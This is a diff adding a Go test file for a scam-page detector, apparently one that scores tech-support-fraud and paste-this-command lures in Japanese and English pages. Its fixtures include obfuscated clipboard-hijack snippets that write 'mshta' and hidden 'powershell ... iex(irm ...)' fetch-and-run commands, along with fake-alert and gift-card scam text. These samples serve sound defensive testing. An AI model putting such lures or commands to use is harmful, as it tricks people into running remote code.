@@ -1,0 +1,131 @@
+package features
+
+import (
+	"testing"
+
+	"github.com/alertguard/alertguard/internal/judging/facts"
+	"github.com/alertguard/alertguard/internal/judging/snapshot"
+)
+
+func extract(t *testing.T, e *Extractor, url, html string, events ...snapshot.Event) map[string]float64 {
+	t.Helper()
+	s := &snapshot.Snapshot{URL: url, HTML: html, Events: events}
+	s.Bound()
+	v := e.Extract(facts.Build(s), nil)
+	out := map[string]float64{}
+	for i, x := range v.Values {
+		if x != 0 {
+			out[e.Defs()[i].Name] = x
+		}
+	}
+	return out
+}
+
+func TestExtract(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name, url, html string
+		events          []snapshot.Event
+		want            map[string]float64 // features that must have exactly this value
+		absent          []string           // features that must be 0
+	}{
+		{name: "paste steps in japanese", url: "https://x.example.top/",
+			html: `<p>① Win + R を押す ② Ctrl + V を押す ③ Enter を押す</p>`,
+			want: map[string]float64{"lure.paste-steps": 1}},
+		{name: "command hidden in a joined array", url: "https://x.example.top/",
+			html: `<button id=b>fix</button><script>var p=['msh','ta ','http','s://x.example/a.hta'].join('');navigator.clipboard.writeText(p)</script>`,
+			want: map[string]float64{"lure.command-clipboard": 1}},
+		{name: "command hidden in base64 utf-16", url: "https://x.example.top/",
+			html: `<script>var c=atob('cABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgAGgAaQBkAGQAZQBuAA==');document.execCommand('copy')</script>`,
+			want: map[string]float64{"lure.command-clipboard": 1}},
+		{name: "fake address bar", url: "https://err.example.xyz/",
+			html: `<div class="bar"><span>https://www.microsoft.com/ja-jp/security</span></div><h1>Windows Defender</h1>`,
+			want: map[string]float64{"authority.fake-chrome": 1, "authority.brand-claimed": 1, "authority.os-voice": 1}},
+		{name: "threat count with brackets", url: "https://x.example.top/",
+			html: `<h1>ウイルス警告</h1><p>(6)個のウイルスにより破損しています</p>`,
+			want: map[string]float64{"alarm.threat-count": 1}},
+		{name: "gift cards and remote tool", url: "https://x.example.top/",
+			html: `<p>AnyDesk を入れてください。お支払いは Google Play カードをコンビニで購入して</p>`,
+			want: map[string]float64{"lure.remote-tool": 0.5, "lure.gift-card": 1}},
+		{name: "documentation command is the vendor's own", url: "https://docs.example.org/install",
+			html: `<h1>Install</h1><p>Run this in PowerShell:</p><pre><code>irm https://get.example.org/install.ps1 | iex</code></pre>`,
+			want: map[string]float64{"negative.vendor-command": 1}},
+		{name: "hidden clipboard command seen at run time", url: "https://x.example.top/",
+			html:   `<p>Checking your browser</p>`,
+			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: "powershell -w hidden -c iex(irm x)"}},
+			want:   map[string]float64{"runtime.clipboard-command": 1, "lure.command-clipboard": 1},
+			absent: []string{"runtime.clipboard-shown-command"}},
+		{name: "shown command copied", url: "https://docs.example.org/",
+			html:   `<pre><code>powershell -c "irm https://get.example.org/i.ps1 | iex"</code></pre>`,
+			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: `powershell -c "irm https://get.example.org/i.ps1 | iex"`}},
+			want:   map[string]float64{"runtime.clipboard-shown-command": 1},
+			absent: []string{"runtime.clipboard-command"}},
+		{name: "a video player's play() is little", url: "https://video.example.com/",
+			html: `<video id=v></video><script>document.getElementById('v').play()</script>`,
+			want: map[string]float64{"pressure.sound": 0.3}},
+		{name: "form validation alerts are not a dialog loop", url: "https://shop.example.com/",
+			html:   `<script>alert('Enter a valid email');alert('Enter a valid email');alert('Required fields')</script>`,
+			absent: []string{"lock.dialog-loop"}},
+		{name: "alarming dialogs are", url: "https://x.example.top/",
+			html: `<script>alert('Your computer is infected! Call now');alert('virus');alert('virus')</script>`,
+			want: map[string]float64{"lock.dialog-loop": 1}},
+		{name: "well-known site, but not its user content", url: "https://www.nytimes.com/2026/01/01/tech/scams.html",
+			html: `<p>x</p>`, want: map[string]float64{"negative.known-org": 1}},
+		{name: "user content host", url: "https://sites.google.com/view/x",
+			html: `<p>x</p>`, absent: []string{"negative.known-org"}},
+		{name: "word boundaries", url: "https://av.example.com/",
+			html: `<p>antivirus antiviruses</p>`, absent: []string{"alarm.words"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := extract(t, e, tt.url, tt.html, tt.events...)
+			for k, v := range tt.want {
+				if got[k] != v {
+					t.Errorf("%s = %.2f, want %.2f (all: %v)", k, got[k], v, got)
+				}
+			}
+			for _, k := range tt.absent {
+				if got[k] != 0 {
+					t.Errorf("%s = %.2f, want 0 (all: %v)", k, got[k], got)
+				}
+			}
+		})
+	}
+}
+
+// TestDefs: every feature has both languages, a known group, and no name
+// twice; lexicon files referenced by the code exist.
+func TestDefs(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	groups := map[string]bool{Authority: true, Alarm: true, Lure: true, Pressure: true, Lock: true, Runtime: true, Combined: true, Negative: true, Signature: true}
+	for _, d := range e.Defs() {
+		if d.Title.Ja == "" || d.Title.En == "" || d.Explanation.Ja == "" || d.Explanation.En == "" || !groups[d.Group] {
+			t.Errorf("%s: incomplete definition %+v", d.Name, d)
+		}
+	}
+	for _, m := range mechanics {
+		for _, n := range m {
+			if e.Index(n) < 0 {
+				t.Errorf("mechanic feature %q is not defined", n)
+			}
+		}
+	}
+	for _, tw := range runtimeTwin {
+		if e.Index(tw[0]) < 0 || e.Index(tw[1]) < 0 {
+			t.Errorf("twin %v is not defined", tw)
+		}
+	}
+	for _, l := range []string{"alarm", "your_device", "os_voice", "call", "call_action", "remote", "giftcard", "purchase", "billing", "legal",
+		"do_not_close", "pressure", "countdown", "paste_steps", "verify", "allow", "prize", "appstore", "commands", "aware", "report",
+		"contact", "byline", "site_chrome", "scan"} {
+		if _, ok := e.lx.index[l]; !ok {
+			t.Errorf("lexicon %s.txt missing", l)
+		}
+	}
+}
